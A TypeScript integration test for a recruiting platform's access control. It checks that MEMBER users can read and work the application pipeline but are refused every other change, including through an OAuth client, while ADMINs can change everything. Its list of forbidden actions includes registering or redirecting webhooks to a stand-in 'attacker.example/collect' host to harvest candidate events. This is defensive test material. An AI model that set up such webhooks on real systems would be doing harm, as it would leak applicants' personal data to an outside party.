// The role model through HTTP with real users' tokens (the development sign-in): a MEMBER reads and
// works the pipeline (moves applications, submits one); every other change answers 403 in the
// error envelope and changes nothing. An ADMIN may do everything. The role bounds the token whatever
// the client: an application a MEMBER let write listings still cannot.
import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createClient } from '../../src/modules/oauth/clients.ts';
import { expectErrorEnvelope } from '../helpers/envelope.ts';
import { dashboardBearer, signInAndGetTokens } from './oauth-client.ts';
import { startListeningApp, type ListeningApp } from './server.ts';

let t: ListeningApp;
let admin: Record<string, string>;
let member: Record<string, string>;
let memberEmail: string;
let activeListing: string;
let draftListing: string;
let applicationId: string;
let candidateId: string;
let webhookId: string;

const email = (name: string) => `${name}-${randomUUID().slice(0, 8)}@example.com`;
type Method = 'GET' | 'POST' | 'PATCH' | 'PUT' | 'DELETE';

const call = (method: Method, url: string, headers: Record<string, string>, payload?: unknown) =>
  t.app.inject({ method, url, headers, ...(payload === undefined ? {} : { payload: payload as object }) });

async function ok(method: Method, url: string, headers: Record<string, string>, payload?: unknown) {
  const response = await call(method, url, headers, payload);
  expect(response.statusCode, `${method} ${url}: ${response.body}`).toBeLessThan(300);
  return response.body ? (response.json() as Record<string, unknown>) : {};
}

const listingBody = { position: 'Recruiter', positionType: 'FULL_TIME', workPlaceType: 'REMOTE' };
const applicant = () => ({ firstName: 'Ada', lastName: 'Lovelace', email: email('ada') });

beforeAll(async () => {
  t = await startListeningApp({ WEBHOOK_ALLOW_LOCAL: 'true' });
  const adminEmail = email('admin');
  admin = await dashboardBearer(t, adminEmail);
  memberEmail = email('member');
  await ok('POST', '/settings/members/invitations', admin, { email: memberEmail, role: 'MEMBER' });
  member = await dashboardBearer(t, memberEmail);

  activeListing = String((await ok('POST', '/public/v1/job-listings', admin, listingBody)).id);
  await ok('POST', `/public/v1/job-listings/${activeListing}/publish`, admin);
  draftListing = String((await ok('POST', '/public/v1/job-listings', admin, { ...listingBody, position: 'Draft' })).id);
  const application = await ok('POST', '/public/v1/applications', admin, { jobListingId: activeListing, candidate: applicant() });
  applicationId = String(application.id);
  candidateId = String((application.candidate as { id: string }).id);
  webhookId = String((await ok('POST', '/public/v1/webhooks', admin, { url: 'http://127.0.0.1:9/hook', events: ['application.created'] })).id);
});
afterAll(async () => t.close());

describe('a MEMBER', () => {
  it('reads listings, applications, candidates, analytics and members', async () => {
    for (const url of [
      '/public/v1/job-listings',
      `/public/v1/job-listings/${activeListing}`,
      '/public/v1/applications',
      `/public/v1/applications/${applicationId}/history`,
      '/public/v1/candidates',
      `/public/v1/candidates/${candidateId}`,
      '/public/v1/analytics/overview',
      '/settings/members',
      '/settings/api-keys',
    ]) {
      await ok('GET', url, member);
    }
  });

  it('moves applications through the pipeline and submits one', async () => {
    const moved = await ok('PATCH', `/public/v1/applications/${applicationId}/status`, member, { status: 'IN_REVIEW', expectedStatus: 'ACTIVE' });
    expect(moved).toMatchObject({ id: applicationId, status: 'IN_REVIEW' });
    const submitted = await call('POST', '/public/v1/applications', member, { jobListingId: activeListing, candidate: applicant() });
    expect(submitted.statusCode).toBe(201);
  });

  it("writes notes on candidates, edits and deletes its own, and cannot edit another's", async () => {
    const mine = await call('POST', `/public/v1/candidates/${candidateId}/notes`, member, { body: 'Strong phone screen.', applicationId });
    expect(mine.statusCode, mine.body).toBe(201);
    const noteId = mine.json().id as string;
    expect((await call('PATCH', `/public/v1/candidates/${candidateId}/notes/${noteId}`, member, { body: 'Strong phone screen; wants May.' })).statusCode).toBe(200);
    const admins = await ok('POST', `/public/v1/candidates/${candidateId}/notes`, admin, { body: 'Offer approved.' });
    const edit = await call('PATCH', `/public/v1/candidates/${candidateId}/notes/${String(admins.id)}`, member, { body: 'Changed by someone else' });
    expectErrorEnvelope(edit, 403, 'FORBIDDEN', `/public/v1/candidates/${candidateId}/notes/${String(admins.id)}`);
    expect((await call('DELETE', `/public/v1/candidates/${candidateId}/notes/${noteId}`, member)).statusCode).toBe(204);
  });

  it('gets 403 in the envelope for every other change, and nothing changes', async () => {
    const forbidden: Array<[Method, string, unknown?]> = [
      ['POST', '/public/v1/job-listings', listingBody],
      ['PATCH', `/public/v1/job-listings/${activeListing}`, { position: 'Renamed' }],
      ['POST', `/public/v1/job-listings/${draftListing}/publish`],
      ['POST', `/public/v1/job-listings/${activeListing}/close`],
      ['POST', `/public/v1/job-listings/${activeListing}/archive`],
      ['DELETE', `/public/v1/job-listings/${draftListing}`],
      ['PUT', `/public/v1/job-listings/${activeListing}/translations/de`, { position: 'Personalvermittler' }],
      ['POST', '/public/v1/webhooks', { url: 'https://attacker.example/collect', events: ['candidate.created'] }],
      ['GET', '/public/v1/webhooks'],
      ['PATCH', `/public/v1/webhooks/${webhookId}`, { url: 'https://attacker.example/collect' }],
      ['DELETE', `/public/v1/webhooks/${webhookId}`],
      ['GET', `/public/v1/webhooks/${webhookId}/deliveries`],
      ['POST', '/public/v1/candidates/import', { candidates: [applicant()] }],
      ['DELETE', `/public/v1/candidates/${candidateId}`],
      ['POST', '/settings/api-keys', { label: 'mine', scopes: ['jobs:read'] }],
      ['PATCH', '/settings/company', { name: 'Taken over' }],
    ];
    for (const [method, url, body] of forbidden) {
      const response = await call(method, url, member, body);
      const envelope = expectErrorEnvelope(response, 403, 'FORBIDDEN', url.split('?')[0]);
      expect(envelope.details, `${method} ${url}`).toEqual([{ field: 'role', message: 'requires ADMIN' }]);
    }

    // Nothing was changed.
    expect(await ok('GET', `/public/v1/job-listings/${activeListing}`, admin)).toMatchObject({ status: 'ACTIVE' });
    expect(await ok('GET', `/public/v1/job-listings/${draftListing}`, admin)).toMatchObject({ status: 'DRAFT' });
    const hooks = (await ok('GET', '/public/v1/webhooks', admin)) as { data: Array<{ id: string; url: string }> };
    expect(hooks.data).toEqual([expect.objectContaining({ id: webhookId, url: 'http://127.0.0.1:9/hook' })]);
    await ok('GET', `/public/v1/candidates/${candidateId}`, admin);
  });

  it('cannot write through an application either, even one it granted jobs:write', async () => {
    const redirectUri = 'http://localhost:9999/cb';
    const client = await createClient(t.ctx, { name: 'Partner', redirectUris: [redirectUri], public: false });
    const { tokens } = await signInAndGetTokens({
      issuer: t.issuer,
      clientId: client.clientId,
      clientSecret: client.clientSecret,
      redirectUri,
      scope: 'openid jobs:read jobs:write',
      email: memberEmail,
      consent: 'approve',
    });
    const headers = { authorization: `Bearer ${tokens.access_token}` };
    await ok('GET', '/public/v1/job-listings', headers);
    const write = await call('POST', '/public/v1/job-listings', headers, listingBody);
    expect(expectErrorEnvelope(write, 403, 'FORBIDDEN', '/public/v1/job-listings').details).toEqual([{ field: 'role', message: 'requires ADMIN' }]);
  });
});

describe('an ADMIN', () => {
  it('changes listings and webhooks', async () => {
    await ok('PATCH', `/public/v1/job-listings/${activeListing}`, admin, { position: 'Senior recruiter' });
    await ok('POST', `/public/v1/job-listings/${activeListing}/close`, admin);
    await ok('DELETE', `/public/v1/webhooks/${webhookId}`, admin);
  });
});
